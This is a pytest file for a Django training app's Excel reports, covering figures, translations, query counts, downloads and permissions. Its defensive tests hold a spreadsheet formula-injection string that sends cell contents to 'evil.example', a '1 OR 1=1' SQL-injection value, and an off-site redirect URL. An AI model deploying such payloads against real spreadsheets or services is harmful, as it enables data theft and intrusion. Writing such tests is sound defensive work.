"""Excel reports: each report is built, read back with openpyxl and its figures checked against
the database; text that a spreadsheet would run as a formula stays text; the build's queries do
not depend on the number of trainees; asking, building and downloading through the pages; who may
ask for and download what.

A report is built in the asker's language: its sheet names, column headers and notes as well as its
labels. The tests run in English, the source language, and assert the English texts; one test
builds a report in Chinese, the default language, and another checks that an English one has no
Chinese fixed text."""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
import zipfile
from datetime import datetime, timedelta
from decimal import Decimal
from pathlib import Path
from urllib.parse import quote
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.db import OperationalError, connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from assessments.models import (
    Attempt,
    AttemptStatus,
    Exam,
    PracticalAssessment,
    Rubric,
    SessionRating,
    TypingPassage,
    TypingResult,
)
from assessments.practicals import score_practical
from employees.models import Employee, Status
from reports.models import Report, ReportKind, ReportStatus
from reports.services import build_report, request_report
from tests.factories import EmployeeFactory
from training.models import ItemRecord, PlanItem, ShadowingLog
from training.services import change_status, enroll

SHANGHAI = ZoneInfo("Asia/Shanghai")
DAY1 = datetime(2026, 11, 16, 10, 0, tzinfo=SHANGHAI)  # plan day 1 (phase 1) of the world's cohorts
DAY4 = datetime(2026, 11, 19, 10, 0, tzinfo=SHANGHAI)  # plan day 4 (phase 2, shadowing)
DAY9 = datetime(2026, 11, 26, 9, 0, tzinfo=SHANGHAI)  # plan day 9: the pass exams
ROOT = Path(__file__).resolve().parents[2]
CJK = re.compile(r"[\u4e00-\u9fff]")


@pytest.fixture(autouse=True)
def _media_in_english(settings, tmp_path, client):
    """Files in a temporary MEDIA_ROOT; messages, labels and titles in English (the source
    language), both for code run here and for pages, which follow the browser's language."""
    settings.MEDIA_ROOT = tmp_path
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    with translation.override("en"):
        yield


@pytest.fixture
def eager_tasks():
    """Run queued tasks in-process, as a worker would."""
    from config.celery import app

    saved = app.conf.task_always_eager, app.conf.task_eager_propagates
    app.conf.task_always_eager, app.conf.task_eager_propagates = True, True
    yield
    app.conf.task_always_eager, app.conf.task_eager_propagates = saved


# ---------------------------------------------------------------------------- data


def exam(code: str) -> Exam:
    return Exam.objects.get(code=code)


def items_of(enrollment, day: int) -> list[PlanItem]:
    position = enrollment.employee.position_class
    items = PlanItem.objects.filter(template_id=enrollment.plan_id, day_number=day).order_by("order", "pk")
    return [i for i in items if i.applies_to(position)]


def sit(employee: Employee, code: str, number: int, percent: int | None, *, passed=..., pending: int = 0, at=DAY9):
    """A closed attempt with a given percent; pass / fail follows the exam's pass mark unless given."""
    e = exam(code)
    if passed is ...:
        passed = None if pending else percent >= e.pass_mark
    return Attempt.objects.create(
        exam=e,
        employee=employee,
        number=number,
        status=AttemptStatus.SUBMITTED,
        started_at=at,
        deadline=at + timedelta(minutes=45),
        submitted_at=at + timedelta(minutes=30),
        max_score=Decimal(100),
        score=Decimal(percent),
        percent=Decimal(percent),
        passed=passed,
        pending_grading=pending,
    )


def assess(employee: Employee, assessor, code: str = "receiving-presale", level: int = 0, comment: str = ""):
    """Score a practical with the `level`-th best level of every criterion."""
    rubric = Rubric.objects.get(code=code)
    levels = {
        c.pk: list(c.levels.order_by("-points"))[min(level, c.levels.count() - 1)].pk for c in rubric.criteria.all()
    }
    return score_practical(
        rubric=rubric, employee=employee, assessor=assessor, levels_by_criterion=levels, overall_comment=comment
    )


def typed(employee: Employee, cpm: str, accuracy: str, passed: bool, at=DAY4) -> TypingResult:
    return TypingResult.objects.create(
        employee=employee,
        passage=TypingPassage.objects.order_by("pk").first(),
        started_at=at,
        finished_at=at + timedelta(minutes=2),
        typed_text="您好，欢迎光临",
        characters=120,
        correct_characters=110,
        cpm=Decimal(cpm),
        accuracy=Decimal(accuracy),
        passed=passed,
    )


def mark(enrollment, day: int, *marks: str, completed: int = 0) -> None:
    """Roll-call marks for the first items of a plan day; the first `completed` are done."""
    items = items_of(enrollment, day)
    ItemRecord.objects.bulk_create(
        ItemRecord(enrollment=enrollment, item=item, attendance=m, completed=i < completed)
        for i, (item, m) in enumerate(zip(items, marks, strict=False))
    )


def members(world, count: int, tag: str, cohort=None) -> list:
    """`count` more trainees in the world's cohort (or `cohort`), each with a full record: roll
    call, two exam attempts, a practical, a typing test, a rating, a shadowing log."""
    cohort = cohort or world.cohort
    hires = [
        EmployeeFactory(name=f"学员{tag}{i}", employee_no=f"{tag}{i:03d}", mentor=world.mentor) for i in range(count)
    ]
    enrollments = enroll(cohort=cohort, employees=hires)
    for i, e in enumerate(enrollments):
        mark(e, 1, "present", "late", "absent", completed=2)
        sit(e.employee, "business-knowledge", 1, 60 + i % 40)
        sit(e.employee, "business-systems", 1, 80)
        typed(e.employee, "66.0", "97.0", True)
        ShadowingLog.objects.create(enrollment=e, day_number=4, mentor=world.mentor, chats_observed=10, score=4)
        SessionRating.objects.create(
            enrollment=e,
            item=items_of(e, 1)[0],
            leader_name="李雪",
            trainer=world.trainer,
            content=4,
            delivery=4,
            usefulness=5,
        )
    for e in enrollments:
        assess(e.employee, world.trainer)
    with time_machine.travel(DAY4, tick=False):
        change_status(employee=hires[0], to_status=Status.ELIMINATED, reason="沟通能力不足", by=world.hr)
    return enrollments


def build(kind: str, params: dict, user=None) -> Report:
    """Ask for a report (queueing disabled) and build it here."""
    report = request_report(kind=kind, params=params, user=user)
    return build_report(report.pk)


def workbook(report: Report, **kwargs):
    report.refresh_from_db()
    assert report.status == ReportStatus.DONE, report.error
    return load_workbook(report.file.path, **kwargs)


def table(ws) -> list[dict]:
    rows = list(ws.iter_rows(values_only=True))
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def by(rows: list[dict], column: str, value) -> dict:
    found = [r for r in rows if r[column] == value]
    assert len(found) == 1, f"{column}={value!r}: {len(found)} rows"
    return found[0]


def attendance_rate(enrollment) -> float:
    """From the rows themselves: present or late over every mark given."""
    marks = [r.attendance for r in ItemRecord.objects.filter(enrollment=enrollment) if r.attendance]
    return round(sum(m in ("present", "late") for m in marks) / len(marks), 4)


@pytest.fixture
def rich(world):
    """The world's trainee with a known record, and a second member who failed the pass exam."""
    e = world.enrollment
    mark(e, 1, "present", "late", "absent", completed=1)
    mark(e, 2, "present", "present")
    sit(world.trainee, "handbook-quiz", 1, 95, pending=1, at=DAY1)  # awaiting grading: no result yet
    sit(world.trainee, "business-knowledge", 1, 60)
    sit(world.trainee, "business-knowledge", 2, 85)
    sit(world.trainee, "business-systems", 1, 90)
    Attempt.objects.create(  # practice never counts
        exam=None,
        employee=world.trainee,
        is_practice=True,
        status=AttemptStatus.SUBMITTED,
        started_at=DAY4,
        deadline=DAY4,
        submitted_at=DAY4,
        max_score=10,
        score=10,
        percent=100,
    )
    with time_machine.travel(DAY4, tick=False):
        assess(world.trainee, world.trainer, level=2)
    with time_machine.travel(DAY9, tick=False):
        latest = assess(world.trainee, world.trainer, level=0, comment="接待热情")
    typed(world.trainee, "70.0", "96.0", True)
    typed(world.trainee, "80.0", "90.0", False, at=DAY9)  # faster but failed: the pass is the best result
    ShadowingLog.objects.create(enrollment=e, day_number=4, mentor=world.mentor, chats_observed=12, score=4, notes="好")
    ShadowingLog.objects.create(enrollment=e, day_number=5, mentor=world.mentor, chats_observed=15, score=5)
    other = members(world, 1, "B")[0]
    return {"latest": latest, "other": other}


# ---------------------------------------------------------------------------- the cohort report


def test_cohort_report_members_sheet_figures_come_from_the_database(world, rich):
    wb = workbook(build("cohort", {"cohort": world.cohort.pk}, world.hr))
    assert wb.sheetnames == ["Members", "Attendance", "Exams", "Practicals", "About this report"]
    rows = table(wb["Members"])
    assert len(rows) == 2
    me = by(rows, "Employee number", world.trainee.employee_no)
    assert me["Name"] == "张小花"
    assert me["Mentor"] == "王师傅"
    assert me["Status"] == "In training"
    assert me["Attendance rate"] == pytest.approx(attendance_rate(world.enrollment)) == pytest.approx(4 / 5)
    assert (me["Sessions marked"], me["Sessions absent"], me["Sessions completed"]) == (5, 1, 1)
    # Best final result per exam; the attempt awaiting grading and the practice attempt do not count.
    assert me["过关考试：业务知识 (best score)"] == 85
    assert me["过关考试：业务系统操作 (best score)"] == 90
    assert me["新员工手册测验 (best score)"] is None
    assert me["All pass exams passed"] == "Yes"
    assert me["接待售前咨询 (practical %)"] == float(rich["latest"].percent)
    assert me["Average shadowing score"] == 4.5
    typing = (me["Best typing speed (characters/min)"], me["Best typing accuracy (%)"], me["Typing standard met"])
    assert typing == (70, 96, "Yes")
    other = by(rows, "Employee number", "B000")
    assert other["Status"] == "Eliminated"
    assert other["All pass exams passed"] == "No"  # 60 in business knowledge


def test_cohort_report_attendance_sheet_shows_each_day(world, rich):
    rows = table(workbook(build("cohort", {"cohort": world.cohort.pk}))["Attendance"])
    me = by(rows, "Employee number", world.trainee.employee_no)
    day1 = len(items_of(world.enrollment, 1))
    assert me["Day 1 attendance"] == "Absent"  # the worst mark of the day
    assert me["Day 1 completed"] == pytest.approx(round(1 / day1, 4))
    assert me["Day 2 attendance"] == "Present"
    assert me["Day 3 attendance"] is None and me["Day 3 completed"] is None  # no roll call that day: blank, not 0 %
    assert "Day 0 attendance" in me and "Day 16 completed" in me


def test_cohort_report_lists_every_counted_attempt_and_each_practical(world, rich):
    wb = workbook(build("cohort", {"cohort": world.cohort.pk}))
    attempts = [r for r in table(wb["Exams"]) if r["Employee number"] == world.trainee.employee_no]
    expected = Attempt.objects.filter(employee=world.trainee, is_practice=False).count()
    assert len(attempts) == expected == 4
    assert [(r["Exam"], r["Attempt"], r["Result (%)"], r["Passed"]) for r in attempts] == [
        ("新员工手册测验", 1, 95, None),
        ("过关考试：业务知识", 1, 60, "No"),
        ("过关考试：业务知识", 2, 85, "Yes"),
        ("过关考试：业务系统操作", 1, 90, "Yes"),
    ]
    practicals = [r for r in table(wb["Practicals"]) if r["Employee number"] == world.trainee.employee_no]
    assert len(practicals) == PracticalAssessment.objects.filter(employee=world.trainee).count() == 2
    assert practicals[-1]["Overall comment"] == "接待热情"
    criteria = list(Rubric.objects.get(code="receiving-presale").criteria.values_list("title", flat=True))
    assert all(title in practicals[-1]["Score details"] for title in criteria)


def test_sheets_have_frozen_headers_widths_and_number_formats(world, rich):
    wb = workbook(build("cohort", {"cohort": world.cohort.pk}))
    ws = wb["Members"]
    assert ws.freeze_panes == "C2"
    assert ws["A1"].font.b and ws["A1"].value == "Employee number"
    assert ws.column_dimensions["A"].width == 12
    assert ws.auto_filter.ref.startswith("A1:")
    header = [c.value for c in ws[1]]
    rate = ws.cell(row=2, column=header.index("Attendance rate") + 1)
    assert rate.number_format == "0.0%"
    best = ws.cell(row=2, column=header.index("过关考试：业务知识 (best score)") + 1)
    assert best.number_format == "0.0"
    attempts = wb["Exams"]
    header = [c.value for c in attempts[1]]
    quiz = 2 + [r["Exam"] for r in table(attempts)].index("新员工手册测验")
    started = attempts.cell(row=quiz, column=header.index("Started at") + 1)
    assert started.is_date and started.number_format == "yyyy-mm-dd hh:mm"
    assert started.value == DAY1.replace(tzinfo=None)  # Shanghai wall-clock time, no time zone
    assert wb["Attendance"].freeze_panes == "C2"


# ---------------------------------------------------------------------------- language


def test_a_report_asked_for_in_chinese_has_chinese_sheet_names_and_headers(world, rich):
    with translation.override("zh-hans"):
        report = build("cohort", {"cohort": world.cohort.pk}, world.hr)
    assert report.params["language"] == "zh-hans"
    wb = workbook(report)
    assert wb.sheetnames == ["成员", "考勤", "考试", "实操", "说明"]
    header = [c.value for c in wb["成员"][1]]
    assert header[:7] == ["工号", "姓名", "岗位类别", "师傅", "状态", "培训计划", "出勤率"]
    assert "过关考试：业务知识（最高分）" in header and "接待售前咨询（实操%）" in header
    assert [c.value for c in wb["考勤"][1]][2:4] == ["第0天出勤", "第0天完成"]
    assert [c.value for c in wb["实操"][1]][2:4] == ["实操项目", "考核时间"]
    assert [c.value for c in wb["说明"][1]] == ["项目", "内容"]
    me = by(table(wb["成员"]), "工号", world.trainee.employee_no)
    assert (me["状态"], me["过关考试全部通过"]) == ("培训中", "是")  # the labels follow the language too


def test_a_report_asked_for_in_english_has_no_chinese_sheet_name_or_header(world, rich):
    wb = workbook(build("cohort", {"cohort": world.cohort.pk}, world.hr))
    assert not [name for name in wb.sheetnames if CJK.search(name)]
    # The members sheet names each exam and rubric by its title: data, which stays as it was written.
    titles = sorted(
        {*Exam.objects.values_list("title", flat=True), *Rubric.objects.values_list("title", flat=True)},
        key=len,
        reverse=True,
    )

    def fixed_text(header: str) -> str:
        return next((header[len(t) :] for t in titles if header.startswith(t)), header)

    headers = [(ws.title, cell.value) for ws in wb.worksheets for cell in ws[1]]
    assert len(headers) > 60 and ("Members", "过关考试：业务知识 (best score)") in headers
    assert not [(sheet, header) for sheet, header in headers if CJK.search(fixed_text(header))]
    notes = [label for label, _value in wb["About this report"].iter_rows(min_row=2, values_only=True)]
    assert notes and not [label for label in notes if CJK.search(label)]


# ---------------------------------------------------------------------------- formula injection


HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'


def test_text_that_looks_like_a_formula_is_written_as_text(world, rich):
    world.trainee.name = HOSTILE
    world.trainee.save()
    PracticalAssessment.objects.filter(pk=rich["latest"].pk).update(comment="+1 很好")
    ItemRecord.objects.filter(enrollment=world.enrollment).update(note="@SUM(A1:A9)")
    with time_machine.travel(DAY4, tick=False):
        change_status(employee=world.trainee, to_status=Status.ELIMINATED, reason="-2+3\x07 态度", by=world.hr)
    cohort = build("cohort", {"cohort": world.cohort.pk})
    transcript = build("transcript", {"employee": world.trainee.pk})
    weekly = build("weekly", {"week_start": "2026-11-16"})

    def text_cells(report, sheet, column):
        ws = workbook(report)[sheet]
        header = [c.value for c in ws[1]]
        return [row[header.index(column)] for row in ws.iter_rows(min_row=2) if row[header.index(column)].value]

    name = by_value(text_cells(cohort, "Members", "Name"), HOSTILE)
    comment = by_value(text_cells(cohort, "Practicals", "Overall comment"), "+1 很好")
    note = text_cells(transcript, "Training schedule", "Roll-call note")[0]
    reason = by_value(text_cells(weekly, "Status changes", "Reason"), "-2+3 态度")  # the control character is dropped
    for cell in (name, comment, note, reason):
        assert cell.data_type == "s"  # not "f": nothing is evaluated
        assert cell.quotePrefix  # and stays text when someone edits the cell
    assert note.value == "@SUM(A1:A9)"
    for report in (cohort, transcript, weekly):
        with zipfile.ZipFile(report.file.path) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
            assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)


def by_value(cells, value):
    found = [c for c in cells if c.value == value]
    assert found, f"{value!r} not among {[c.value for c in cells]}"
    return found[0]


# ---------------------------------------------------------------------------- training and weekly reports


@pytest.fixture
def scored(world):
    """Five trainees whose best business-knowledge scores are 60, 70, 80, 90, 100 (pass mark 80),
    ratings of the trainer and the mentor, and eliminations in phases 1 and 2."""
    hires = [EmployeeFactory(name=f"考生{i}", employee_no=f"S{i}", mentor=world.mentor) for i in range(5)]
    enrollments = enroll(cohort=world.cohort, employees=hires)
    for hire, best in zip(hires, [60, 70, 80, 90, 100], strict=True):
        sit(hire, "business-knowledge", 1, best - 10)
        sit(hire, "business-knowledge", 2, best)
    mark(enrollments[0], 1, "present", "absent", "leave")
    mark(enrollments[1], 1, "late", "present")
    item = items_of(enrollments[0], 1)[0]
    rate = {"leader_name": "李雪", "trainer": world.trainer, "item": item}
    SessionRating.objects.create(enrollment=enrollments[0], content=5, delivery=4, usefulness=3, **rate)
    SessionRating.objects.create(enrollment=enrollments[1], content=4, delivery=4, usefulness=4, **rate)
    shadow = items_of(enrollments[0], 4)[0]
    SessionRating.objects.create(
        enrollment=enrollments[0],
        item=shadow,
        leader_name="王师傅",
        mentor=world.mentor,
        content=2,
        delivery=3,
        usefulness=4,
    )
    with time_machine.travel(DAY1, tick=False):
        change_status(employee=hires[0], to_status=Status.ELIMINATED, reason="迟到多次", by=world.hr)
    with time_machine.travel(DAY4, tick=False):
        change_status(employee=hires[1], to_status=Status.ELIMINATED, reason="打字太慢", by=world.hr)
        change_status(employee=hires[2], to_status=Status.ELIMINATED, reason="不适应夜班", by=world.hr)
    return enrollments


def test_training_report_of_a_cohort(world, scored):
    wb = workbook(build("training", {"cohort_id": world.cohort.pk}, world.hr))
    assert wb.sheetnames == [
        "Overview",
        "Exams",
        "Score sheet",
        "Eliminations by phase",
        "Eliminations",
        "About this report",
    ]
    overview = by(table(wb["Overview"]), "Cohort", "十一月新人批")
    records = ItemRecord.objects.filter(enrollment__cohort=world.cohort).exclude(attendance="")
    attended = records.filter(attendance__in=["present", "late"]).count()
    assert overview["Attendance rate"] == pytest.approx(round(attended / records.count(), 4)) == pytest.approx(3 / 5)
    assert overview["Trainees"] == 6
    assert (overview["Eliminated"], overview["In training"]) == (3, 3)

    bk = by(table(wb["Exams"]), "Exam", "过关考试：业务知识")
    assert (bk["Sat"], bk["Number passed"], bk["Pass rate"]) == (5, 3, 0.6)
    spread = ("Lowest score", "Lower quartile", "Median", "Upper quartile", "Highest score", "Average score")
    assert [bk[figure] for figure in spread] == [60, 70, 80, 90, 100, 80]

    ratings = table(wb["Score sheet"])
    trainer = by(ratings, "Trainer / mentor", "李雪")
    assert (trainer["Leader type"], trainer["Ratings"], trainer["Trainees who rated"]) == ("Trainer", 2, 2)
    assert (trainer["Content"], trainer["Delivery"], trainer["Usefulness"], trainer["Overall"]) == (4.5, 4, 3.5, 4)
    mentor = by(ratings, "Trainer / mentor", "王师傅")
    assert (mentor["Leader type"], mentor["Overall"]) == ("Mentor", 3)

    phases = table(wb["Eliminations by phase"])
    assert [(r["Phase"], r["Number eliminated"]) for r in phases] == [(1, 1), (2, 2)]
    assert phases[1]["Share of trainees"] == pytest.approx(round(2 / 6, 4))
    assert "打字太慢" in phases[1]["Reason"] and "不适应夜班" in phases[1]["Reason"]
    assert phases[1]["Phase name"]  # the plan's name of phase 2
    detail = table(wb["Eliminations"])
    assert {r["Employee number"] for r in detail} == {"S0", "S1", "S2"}
    assert by(detail, "Employee number", "S0")["Reason"] == "迟到多次"


def test_training_report_over_dates_counts_only_what_happened_in_them(world, scored):
    # Days 1–3 only: the pass exams (day 9) and the phase-2 eliminations (day 4) fall outside.
    wb = workbook(build("training", {"since": "2026-11-16", "until": "2026-11-18"}, world.hr))
    overview = table(wb["Overview"])
    assert {r["Cohort"] for r in overview} == {"十一月新人批", "别的批次"}
    ours = by(overview, "Cohort", "十一月新人批")
    assert (ours["Sessions marked"], ours["Period"]) == (5, "2026-11-16 to 2026-11-18")
    assert table(wb["Exams"]) == []
    assert [r["Employee number"] for r in table(wb["Eliminations"])] == ["S0"]


def test_weekly_report_adds_the_weeks_status_changes(world, scored):
    with time_machine.travel(datetime(2026, 11, 24, 9, tzinfo=SHANGHAI), tick=False):  # the next week
        change_status(employee=world.trainee, to_status=Status.LEFT, reason="个人原因", by=world.hr)
    report = build("weekly", {"week_start": "2026-11-18"})  # a Wednesday: the week of Monday 16th
    assert report.params["week_start"] == "2026-11-16"
    wb = workbook(report)
    assert wb.sheetnames[-2:] == ["Status changes", "About this report"]
    changes = table(wb["Status changes"])
    assert [r["Employee number"] for r in changes] == ["S0", "S1", "S2"]
    assert (
        changes[0]["New status"] == "Eliminated" and changes[0]["Phase"] == 1 and changes[0]["Cohort"] == "十一月新人批"
    )


# ---------------------------------------------------------------------------- transcript and employee list


def test_transcript_of_one_trainee(world, rich):
    with time_machine.travel(DAY4, tick=False):
        change_status(employee=world.trainee, to_status=Status.TRIAL_POST, reason="提前过关", by=world.hr)
    wb = workbook(build("transcript", {"employee_id": world.trainee.pk}, world.hr))
    assert wb.sheetnames == [
        "Trainee",
        "Cohort",
        "Training schedule",
        "Exams",
        "Practicals",
        "Typing",
        "Status history",
        "About this report",
    ]
    assert table(wb["Trainee"])[0]["Name"] == "张小花"
    assert by(table(wb["Cohort"]), "Cohort", "十一月新人批")["Attendance rate"] == pytest.approx(0.8)
    schedule = table(wb["Training schedule"])
    day1 = [r for r in schedule if r["Plan day"] == 1]
    assert len(day1) == len(items_of(world.enrollment, 1))
    assert [r["Attendance"] for r in day1[:3]] == ["Present", "Late", "Absent"]
    day4 = [r for r in schedule if r["Plan day"] == 4]
    assert day4[0]["Shadowing score"] == 4 and day4[0]["Shadowing log"] == "好" and day4[0]["Led by"] == "王师傅"
    assert len(table(wb["Exams"])) == 4
    criteria = Rubric.objects.get(code="receiving-presale").criteria.count()
    assert len(table(wb["Practicals"])) == 2 * criteria
    assert [r["Characters per minute"] for r in table(wb["Typing"])] == [70, 80]
    history = table(wb["Status history"])
    assert (
        history[-1]["New status"] == "Trial post" and history[-1]["Phase"] == 2 and history[-1]["Reason"] == "提前过关"
    )


def test_employee_list_filters_by_cohort_and_status(world, rich):
    wb = workbook(build("employees", {"cohort": world.cohort.pk, "status": ["in_training"]}))
    rows = table(wb["Employees"])
    assert [r["Employee number"] for r in rows] == [world.trainee.employee_no]  # B000 was eliminated
    assert rows[0]["Latest cohort"] == "十一月新人批"
    everyone = table(workbook(build("employees", {}))["Employees"])
    assert len(everyone) == Employee.objects.count()
    counts = table(workbook(build("employees", {}))["Counts"])
    assert counts[-1]["Total"] == Employee.objects.count()


# ---------------------------------------------------------------------------- queries


def _statements(report_id: int) -> list[str]:
    with CaptureQueriesContext(connection) as captured:
        build_report(report_id)
    return [q["sql"] for q in captured.captured_queries]


@pytest.mark.parametrize(
    ("kind", "params"),
    [
        ("cohort", lambda w: {"cohort": w.cohort.pk}),
        ("training", lambda w: {"cohort": w.cohort.pk}),
        ("weekly", lambda w: {"week_start": "2026-11-16"}),
        ("employees", lambda w: {"cohort": w.cohort.pk}),
    ],
)
def test_a_builds_queries_do_not_depend_on_the_number_of_trainees(world, kind, params):
    members(world, 3, "Q")
    small = _statements(request_report(kind=kind, params=params(world), user=None).pk)
    members(world, 27, "R")
    large = _statements(request_report(kind=kind, params=params(world), user=None).pk)
    assert len(small) == len(large), "\n".join(large)


def test_the_cohort_report_takes_a_fixed_number_of_queries(world):
    members(world, 30, "Q")
    report = request_report(kind="cohort", params={"cohort": world.cohort.pk}, user=None)
    statements = _statements(report.pk)
    # Read the report; claim it (UPDATE running); the cohort; members; exams; rubrics; gate exams
    # per plan; plan days (phases, items); the COUNTs of the streamed sheets (attempts,
    # practicals); for 成员 one grouped query each: roll call per member, best score per exam,
    # gate exams passed, latest practical per rubric, shadowing average, best typing; sessions per
    # day; 考勤 records grouped by member and day; 考试 attempts; criteria; levels; 实操
    # assessments with their scores; 20 progress UPDATEs (4 per sheet × 5 sheets); the UPDATE to
    # done; reading the report again. PostgreSQL adds SET and RESET cursor_tuple_fraction.
    progress = [s for s in statements if s.startswith('UPDATE "reports_report" SET "progress"')]
    assert len(progress) == 20
    expected = 45 + (2 if connection.vendor == "postgresql" else 0)
    assert len(statements) == expected, "\n".join(statements)


# ---------------------------------------------------------------------------- asking, building, downloading


def test_hr_asks_for_a_cohort_report_which_a_task_builds_and_hr_downloads(
    client, world, rich, django_capture_on_commit_callbacks, eager_tasks
):
    client.force_login(world.hr)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("report_request"), {"kind": "cohort", "cohort": str(world.cohort.pk)})
    report = Report.objects.get()
    assert response.status_code == 302 and response["Location"] == reverse("report_detail", args=[report.pk])
    assert (report.status, report.progress, report.requested_by) == (ReportStatus.DONE, 100, world.hr)
    assert report.title == "Cohort report: 十一月新人批"

    status = client.get(reverse("report_status", args=[report.pk])).json()
    assert status["status"] == "done" and status["progress"] == 100
    assert status["download_url"] == reverse("report_download", args=[report.pk])

    page = client.get(reverse("report_detail", args=[report.pk])).content.decode()
    assert status["download_url"] in page

    download = client.get(status["download_url"])
    assert download.status_code == 200
    assert download["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    name = report.params["download_name"]
    assert name.startswith("批次报告-十一月新人批-") and name.endswith(".xlsx")
    assert f"filename*=UTF-8''{quote(name)}" in download["Content-Disposition"]
    wb = load_workbook(io.BytesIO(b"".join(download.streaming_content)), read_only=True)
    names = [row[1] for row in wb["Members"].iter_rows(min_row=2, values_only=True)]
    assert names == ["学员B0", "张小花"]  # in employee number order: B000, E…


def test_asking_queues_the_build_only_after_the_transaction_commits(
    world, django_capture_on_commit_callbacks, monkeypatch
):
    queued: list[int] = []
    monkeypatch.setattr("reports.services.queue_build", queued.append)
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        report = request_report(kind="cohort", params={"cohort_id": world.cohort.pk}, user=world.hr)
        assert queued == []
    for callback in callbacks:
        callback()
    assert queued == [report.pk]
    assert report.status == ReportStatus.QUEUED and report.params["language"] == "en"


def test_building_twice_builds_once(world, rich):
    report = build("cohort", {"cohort": world.cohort.pk})
    first = report.file.name
    again = build_report(report.pk)
    assert again.file.name == first and again.status == ReportStatus.DONE
    assert len(list(Path(report.file.path).parent.iterdir())) == 1


def test_a_report_whose_cohort_was_deleted_fails_with_a_reason(world, client):
    report = request_report(kind="cohort", params={"cohort": world.other_cohort.pk}, user=world.hr)
    world.other_cohort.delete()
    report = build_report(report.pk)
    assert report.status == ReportStatus.FAILED and "deleted" in report.error
    client.force_login(world.hr)
    status = client.get(reverse("report_status", args=[report.pk])).json()
    assert status["status"] == "failed" and status["error"] == report.error and status["download_url"] is None


def test_an_unexpected_error_fails_the_report_with_a_readable_message(world, monkeypatch):
    report = request_report(kind="cohort", params={"cohort": world.cohort.pk}, user=world.hr)
    monkeypatch.setattr("reports.xlsx.sheets_for", lambda kind, params: 1 / 0)
    report = build_report(report.pk)
    assert report.status == ReportStatus.FAILED
    assert "ZeroDivisionError" in report.error and "Traceback" not in report.error


def test_a_transient_database_error_is_retried_then_given_up(world, monkeypatch):
    from reports.tasks import build_report_task

    report = request_report(kind="cohort", params={"cohort": world.cohort.pk}, user=world.hr)
    calls: list[int] = []

    def down(kind, params):
        calls.append(1)
        raise OperationalError("server closed the connection unexpectedly")

    monkeypatch.setattr("reports.xlsx.sheets_for", down)
    # Run in-process, Celery retries at once (no back-off wait): every retry is another call.
    result = build_report_task.apply(args=[report.pk])
    assert result.failed() and isinstance(result.result, OperationalError)
    report.refresh_from_db()
    assert len(calls) == 1 + build_report_task.max_retries
    assert report.status == ReportStatus.FAILED and "database" in report.error


# ---------------------------------------------------------------------------- who may ask and download


def post(client, user, **data):
    client.force_login(user)
    return client.post(reverse("report_request"), {k: str(v) for k, v in data.items()})


def test_a_trainer_asks_for_reports_of_their_own_cohort_and_trainees_only(client, world):
    assert post(client, world.trainer, kind="cohort", cohort=world.cohort.pk).status_code == 302
    assert post(client, world.trainer, kind="transcript", employee=world.trainee.pk).status_code == 302
    assert post(client, world.trainer, kind="cohort", cohort=world.other_cohort.pk).status_code == 404
    assert post(client, world.trainer, kind="training", cohort=world.other_cohort.pk).status_code == 404
    assert post(client, world.trainer, kind="transcript", employee=world.outsider.pk).status_code == 404
    assert post(client, world.trainer, kind="employees", cohort=world.other_cohort.pk).status_code == 404
    assert post(client, world.trainer, kind="weekly", week_start="2026-11-16").status_code == 403
    assert post(client, world.trainer, kind="training", since="2026-11-01", until="2026-11-30").status_code == 403
    assert post(client, world.trainer, kind="employees").status_code == 403
    assert Report.objects.count() == 2


def test_tampered_requests_are_refused_and_store_nothing(client, world):
    assert post(client, world.hr, kind="cohort", cohort="1 OR 1=1").status_code == 404
    assert post(client, world.hr, kind="cohort", cohort=999999).status_code == 404
    assert post(client, world.hr, kind="transcript", employee="abc").status_code == 404
    assert post(client, world.hr, kind="everything").status_code == 400
    assert post(client, world.mentor.user, kind="cohort", cohort=world.cohort.pk).status_code == 403
    assert post(client, world.trainee.user, kind="transcript", employee=world.trainee.pk).status_code == 403
    assert not Report.objects.exists()


def test_a_bad_date_range_is_explained_and_nothing_is_stored(client, world):
    response = post(client, world.hr, kind="training", since="2026-11-30", until="2026-11-01")
    assert response.status_code == 302 and response["Location"] == reverse("report_list")
    page = client.get(response["Location"]).content.decode()
    assert "The start of the range is after its end." in page
    response = post(client, world.hr, kind="weekly", week_start="2026-13-45", next="/cohorts/")
    assert response["Location"] == "/cohorts/"
    response = post(client, world.hr, kind="weekly", week_start="2026-11-16", next="https://evil.example/")
    assert response["Location"].startswith("/reports/")  # never sent off-site
    assert Report.objects.count() == 1


def test_reports_are_seen_by_hr_and_by_the_trainer_who_asked_while_in_scope(client, world):
    by_hr = request_report(kind="cohort", params={"cohort": world.cohort.pk}, user=world.hr)
    by_trainer = build("cohort", {"cohort": world.cohort.pk}, world.trainer)
    client.force_login(world.trainer)
    for name in ("report_detail", "report_status", "report_download"):
        assert client.get(reverse(name, args=[by_trainer.pk])).status_code == 200, name
        assert client.get(reverse(name, args=[by_hr.pk])).status_code == 404, name
    assert client.get(reverse("report_download", args=[999999])).status_code == 404
    listed = client.get(reverse("report_list")).content.decode()
    assert reverse("report_detail", args=[by_trainer.pk]) in listed
    assert reverse("report_detail", args=[by_hr.pk]) not in listed
    world.cohort.trainers.remove(world.trainer)  # no longer trains the cohort: the report goes too
    assert client.get(reverse("report_download", args=[by_trainer.pk])).status_code == 404
    client.force_login(world.hr)
    assert client.get(reverse("report_download", args=[by_trainer.pk])).status_code == 200
    assert client.get(reverse("report_download", args=[by_hr.pk])).status_code == 404  # not built yet


def test_a_scheduled_report_asked_for_by_nobody_is_shown_and_downloaded(client, world):
    report = build("weekly", {"week_start": "2026-11-16"}, user=None)
    assert report.requested_by is None and report.title == "Weekly HR report: week of 2026-11-16"
    client.force_login(world.hr)
    assert "the schedule" in client.get(reverse("report_detail", args=[report.pk])).content.decode()
    assert "Scheduled" in client.get(reverse("report_list")).content.decode()
    assert client.get(reverse("report_download", args=[report.pk])).status_code == 200
